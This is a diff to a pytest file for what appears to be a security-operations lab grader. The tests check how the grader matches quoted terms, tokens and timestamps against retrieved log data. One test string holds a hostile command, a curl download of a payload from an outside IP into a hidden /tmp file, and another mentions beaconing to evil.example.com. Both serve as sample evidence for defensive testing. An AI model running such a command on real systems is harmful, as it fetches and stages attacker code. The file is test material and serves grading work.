@@ -3,9 +3,16 @@
 from __future__ import annotations
 
 import pytest
-from judge_case import ATTACKER, Calls, q_auth, q_file, q_overview, q_process, q_zeek
+from judge_case import ATTACKER, Calls, hit, q_auth, q_file, q_overview, q_process, q_zeek
 
-from pytest_soclab.judge.grounding import Retrieved, contains, docs_of_call, flatten, source_matches, term_pattern
+from pytest_soclab.judge.grounding import (
+    Retrieved,
+    contains,
+    docs_of_call,
+    flatten,
+    source_matches,
+    term_pattern,
+)
 
 
 def test_term_boundaries() -> None:
@@ -139,3 +146,50 @@ def test_contains_quote_ignores_json_punctuation() -> None:
     assert r.contains_quote("process.command_line: curl -s http://185.220.101.34/x -o /tmp/.sysupdate")
     assert not r.contains_quote("/tmp/.sysupdate beaconing to evil.example.com")
     assert not r.contains_quote("ab")
+
+
+def test_underscore_separates_tokens() -> None:
+    """Package files and versions are joined by `_` ("openssh-server_8.9p1-3ubuntu0.10_amd64.deb"): a
+    human counts that as naming the package and its version. `=` and `:` already separate."""
+    deb = "/var/cache/apt/archives/openssh-server_8.9p1-3ubuntu0.10_amd64.deb"
+    assert contains(deb, "openssh-server")
+    assert contains(deb, "8.9p1-3ubuntu0.10")
+    assert contains("COMMAND=/usr/bin/less /var/log/x", "/usr/bin/less")
+    assert contains("user:carol pid=48213", "carol") and contains("pid=48213", "48213")
+    assert contains("backup_web-01_2025.tar", "web-01")
+    # ... but letters and digits still continue a token
+    assert not contains("openssh-serverx", "openssh-server")
+    assert not contains("deployer ran", "deploy") and not contains("redeploy", "deploy")
+    assert not contains("/tmp/.sysupdated", "/tmp/.sysupdate")
+    assert not contains("web-012", "web-01") and not contains("pid 482131", "48213")
+    assert not contains("8.9p1-3ubuntu0.100", "8.9p1-3ubuntu0.10")
+
+
+def test_prefix_terms() -> None:
+    """`exfiltrat*` is the explicit prefix form: the word and its continuations; a bare stem stays whole."""
+    assert contains("Data exfiltration to 1.2.3.4", "exfiltrat*")
+    assert contains("the archive was exfiltrated", "exfiltrat*")
+    assert contains("EXFILTRATE", "exfiltrat*")
+    assert not contains("preexfiltration", "exfiltrat*")
+    assert not contains("Data exfiltration", "exfiltrat")  # no star: a whole token, as before
+    assert contains("credentials were dumped", "credential*")
+    assert not contains("a / b", "/*")  # a lone glob character is literal
+    r = Retrieved([])
+    assert not r.grounded("exfiltrat*")
+
+
+def test_field_names_ground_nothing() -> None:
+    """Only values are retrieved content: a field name ("user_agent.original") is the store's schema."""
+    c = Calls()
+    c.search("logs-zeek.http-*", {"query": {"match_all": {}}},
+             [hit(".ds-logs-zeek.http-default-2024.05.14-000001", "h1",
+                  {"user_agent": {"original": "curl/8.5"}, "url": {"path": "/x"}, "customer_id": None})])
+    r = Retrieved(c.calls)
+    assert r.grounded("curl/8.5") and r.grounded("/x")
+    assert not r.grounded("agent") and not r.grounded("original") and not r.grounded("url")
+
+
+def test_time_of_day_inside_an_iso_timestamp() -> None:
+    assert contains("@timestamp 2025-03-11T02:30:00.000Z", "02:30")
+    assert not contains("2025-03-11T12:30:00.000Z", "2:30")
+    assert not contains("build AT02:30", "02:30") and not contains("T1021.004", "1021.004")
